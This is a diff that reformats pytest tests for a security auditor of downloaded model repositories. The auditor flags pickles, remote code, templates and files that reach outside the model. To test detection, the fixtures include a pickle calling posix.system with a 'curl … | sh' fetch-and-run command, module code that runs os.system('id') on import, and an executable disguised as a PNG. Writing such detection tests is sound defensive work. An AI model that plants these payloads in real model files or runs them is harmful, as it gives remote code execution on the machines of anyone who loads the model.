@@ -23,15 +23,24 @@ def test_a_well_made_model_passes_with_its_gaps_listed(tmp_path: Path, audit: Au
     assert dossier.decision.verdict is Verdict.PASSED
     assert {f.check for f in dossier.findings if f.kind is Kind.FAIL} == set()
     assert {f.check for f in dossier.findings if f.kind is Kind.REVIEW} == {"token.forgeable"}
-    assert {f.check for f in dossier.findings if f.kind is Kind.OPEN} == {"weights.values-unread", "error-rate.unmeasured", "output.untraced"}
+    assert {f.check for f in dossier.findings if f.kind is Kind.OPEN} == {
+        "weights.values-unread",
+        "error-rate.unmeasured",
+        "output.untraced",
+    }
 
 
 def test_a_pickle_that_calls_the_system_is_a_fail_with_its_call(tmp_path: Path, audit: Audit) -> None:
     model = hub_model(tmp_path / "m", **{"training_args.bin": calls("posix", "system", "curl -s 198.51.100.7/x | sh")})
     dossier = audit(model)
     (found,) = of(dossier, "pickle.reaches-outside", Kind.FAIL)
-    assert found.message == "training_args.bin @ 2: loading calls posix.system: posix.system('curl -s 198.51.100.7/x | sh')"
-    assert found.evidence[0].excerpt is not None and bytes.fromhex(found.evidence[0].excerpt).startswith(b"cposix\nsystem\n")
+    assert (
+        found.message
+        == "training_args.bin @ 2: loading calls posix.system: posix.system('curl -s 198.51.100.7/x | sh')"
+    )
+    assert found.evidence[0].excerpt is not None and bytes.fromhex(found.evidence[0].excerpt).startswith(
+        b"cposix\nsystem\n"
+    )
     assert dossier.decision.verdict is Verdict.FAILED
 
 
@@ -47,7 +56,9 @@ def test_a_pickle_that_calls_the_system_is_a_fail_with_its_call(tmp_path: Path, 
         ("torch.nn", "Linear.forward.__globals__", "pickle.reaches-outside", Kind.FAIL),
     ],
 )
-def test_imports_are_judged_by_exact_lists(tmp_path: Path, audit: Audit, module: str, name: str, check: str, kind: Kind) -> None:
+def test_imports_are_judged_by_exact_lists(
+    tmp_path: Path, audit: Audit, module: str, name: str, check: str, kind: Kind
+) -> None:
     model = hub_model(tmp_path / "m", **{"x.pkl": calls(module, name, "x")})
     assert [f.kind for f in of(audit(model), check)] == [kind]
 
@@ -66,13 +77,17 @@ def with_code(tmp_path: Path, source: str, **changes: Any) -> Path:
 
 def test_remote_code_is_for_review_with_its_length_and_reach(tmp_path: Path, audit: Audit) -> None:
     dossier = audit(with_code(tmp_path, "import torch\nclass XModel: pass\n"))
-    assert messages(dossier, "code.remote") == ["config.json makes a loader run modeling_x.py (3 lines; no network, process or execution calls seen)"]
+    assert messages(dossier, "code.remote") == [
+        "config.json makes a loader run modeling_x.py (3 lines; no network, process or execution calls seen)"
+    ]
     assert dossier.decision.verdict is Verdict.PASSED
 
 
 def test_reached_code_that_runs_something_at_import_is_a_fail(tmp_path: Path, audit: Audit) -> None:
     dossier = audit(with_code(tmp_path, "import os\nos.system('id')\n"))
-    assert messages(dossier, "code.reaches-outside", Kind.FAIL) == ["modeling_x.py:2 starts processes when imported (a config makes loaders import it): os.system('id')"]
+    assert messages(dossier, "code.reaches-outside", Kind.FAIL) == [
+        "modeling_x.py:2 starts processes when imported (a config makes loaders import it): os.system('id')"
+    ]
 
 
 def test_code_that_only_reaches_outside_when_called_is_for_review(tmp_path: Path, audit: Audit) -> None:
@@ -82,7 +97,10 @@ def test_code_that_only_reaches_outside_when_called_is_for_review(tmp_path: Path
 
 @pytest.mark.parametrize(
     ("target", "words"),
-    [("org/other--modeling_x.X", "loads code from another repository: org/other--modeling_x.X"), ("modeling_gone.X", "names code that is not in the model: modeling_gone.X")],
+    [
+        ("org/other--modeling_x.X", "loads code from another repository: org/other--modeling_x.X"),
+        ("modeling_gone.X", "names code that is not in the model: modeling_gone.X"),
+    ],
 )
 def test_code_elsewhere_is_a_fail(tmp_path: Path, audit: Audit, target: str, words: str) -> None:
     model = hub_model(tmp_path / "m", **{"config.json": json.dumps(config(auto_map={"AutoModel": target}))})
@@ -106,7 +124,9 @@ def with_template(tmp_path: Path, source: str) -> Path:
         ("{% if %}", "template.unparsed", Kind.OPEN),
     ],
 )
-def test_templates_are_judged_by_what_they_do(tmp_path: Path, audit: Audit, source: str, check: str, kind: Kind) -> None:
+def test_templates_are_judged_by_what_they_do(
+    tmp_path: Path, audit: Audit, source: str, check: str, kind: Kind
+) -> None:
     assert [f.kind for f in of(audit(with_template(tmp_path, source)), check)] == [kind]
 
 
@@ -123,7 +143,15 @@ def test_a_tokenizer_without_control_tokens_passes(tmp_path: Path, audit: Audit)
 
 
 def test_a_file_without_a_reader_is_open_and_an_image_is_inert(tmp_path: Path, audit: Audit) -> None:
-    model = hub_model(tmp_path / "m", **{"notes.7z": b"7z\xbc\xaf'\x1c", "logo.png": b"\x89PNG\r\n\x1a\n...", "fake.png": b"MZ\x90", "script.txt": b"#!/bin/sh\n"})
+    model = hub_model(
+        tmp_path / "m",
+        **{
+            "notes.7z": b"7z\xbc\xaf'\x1c",
+            "logo.png": b"\x89PNG\r\n\x1a\n...",
+            "fake.png": b"MZ\x90",
+            "script.txt": b"#!/bin/sh\n",
+        },
+    )
     dossier = audit(model)
     assert [a.path for a in dossier.artifacts if a.standing == "inert"] == ["logo.png"]
     assert messages(dossier, "artifact.unread", Kind.OPEN) == [
@@ -147,7 +175,9 @@ def test_a_malformed_file_is_open_with_its_offset(tmp_path: Path, audit: Audit) 
     assert dossier.decision.verdict is Verdict.INCOMPLETE
 
 
-def test_a_check_that_crashes_is_open_and_the_audit_goes_on(tmp_path: Path, audit: Audit, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_a_check_that_crashes_is_open_and_the_audit_goes_on(
+    tmp_path: Path, audit: Audit, monkeypatch: pytest.MonkeyPatch
+) -> None:
     from dataclasses import replace
 
     from assay import checks
@@ -158,5 +188,7 @@ def test_a_check_that_crashes_is_open_and_the_audit_goes_on(tmp_path: Path, audi
     broken = tuple(replace(c, run=crash) if c.rule.id == "token.forgeable" else c for c in checks.installed())
     monkeypatch.setattr(checks, "installed", lambda: broken)
     dossier = audit(hub_model(tmp_path / "m"))
-    assert messages(dossier, "token.forgeable", Kind.OPEN) == ["the check itself failed (KeyError: 'boom'); please report this"]
+    assert messages(dossier, "token.forgeable", Kind.OPEN) == [
+        "the check itself failed (KeyError: 'boom'); please report this"
+    ]
     assert dossier.decision.verdict is Verdict.INCOMPLETE
